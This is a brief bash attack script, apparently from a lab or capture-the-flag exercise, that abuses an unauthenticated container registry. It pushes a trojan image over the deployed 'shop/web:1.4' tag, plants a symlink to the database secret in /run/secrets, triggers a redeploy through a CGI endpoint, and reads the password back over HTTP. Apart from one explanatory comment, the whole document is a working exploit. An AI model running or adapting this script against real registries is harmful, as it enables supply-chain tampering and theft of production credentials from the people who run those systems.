#!/bin/bash
# The registry takes pushes from anybody, so the tag that the shop deploys can be moved to an image with one more file: a link to the password of the database.
set -euo pipefail

cd /tmp
mkdir -p trojan/www
ln -sf /run/secrets/db trojan/www/loot
push-trojan dockerhost:5000 shop/web:1.4 trojan
curl --silent --max-time 60 --request POST http://dockerhost:9000/cgi-bin/deploy
sleep 1
curl --silent --max-time 10 http://dockerhost:8080/www/loot
